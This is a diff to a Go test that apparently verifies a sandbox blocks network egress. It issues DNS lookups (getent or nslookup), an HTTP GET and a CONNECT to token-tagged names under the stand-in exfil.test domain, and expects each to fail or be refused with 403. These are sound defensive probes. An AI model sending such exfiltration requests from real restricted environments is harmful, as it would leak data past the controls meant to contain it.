@@ -91,7 +91,10 @@ func runP19(ctx context.Context, e *Env) Result {
 		Env: []string{"CORRAL_EGRESS_RESOLVER=" + pdns.Addr()},
 		Args: e.steps(
 			step{Label: "dns", Args: []string{"dns", tok + ".exfil.test", udp.Addr()}},
-			step{Label: "getent", Shell: "getent hosts getent-" + tok + ".exfil.test; echo getent=$?"},
+			// glibc's getent exits 2 for "not found"; an image without
+			// it (busybox) has nslookup, which exits 1.
+			step{Label: "getent", Shell: "n=getent-" + tok + ".exfil.test; if command -v getent >/dev/null; then getent hosts $n; echo getent=$?; " +
+				"elif command -v nslookup >/dev/null; then nslookup $n >/dev/null 2>&1; echo nslookup=$?; else echo no-resolver-tool; fi"},
 			httpStep("http-exfil", "GET", "http://"+bname+"/", "Host:"+bname),
 			httpStep("connect-exfil", "CONNECT", bname+":443", "Host:"+bname+":443"),
 			httpStep("control", "GET", "http://"+h.hostPort("api.allowed.test")+"/", "Host:"+h.hostPort("api.allowed.test")),
@@ -111,7 +114,8 @@ func runP19(ctx context.Context, e *Env) Result {
 		}
 		e.Check(&r, x.What, show(x), !x.OK, x.What+" got an answer")
 	}
-	e.Check(&r, "getent hosts getent-<token>.exfil.test", clip(s["getent"].Text, 200), strings.Contains(s["getent"].Text, "getent=2"), "the system resolver answered a name from inside")
+	g := s["getent"].Text
+	e.Check(&r, "getent hosts (or nslookup) getent-<token>.exfil.test", clip(g, 200), strings.Contains(g, "getent=2") || strings.Contains(g, "nslookup=1"), "the system resolver answered a name from inside")
 	checkStatus(e, &r, "GET http://b-<token>.exfil.test/ through the proxy", s["http-exfil"], "403")
 	checkStatus(e, &r, "CONNECT b-<token>.exfil.test:443", s["connect-exfil"], "403")
 	settle()
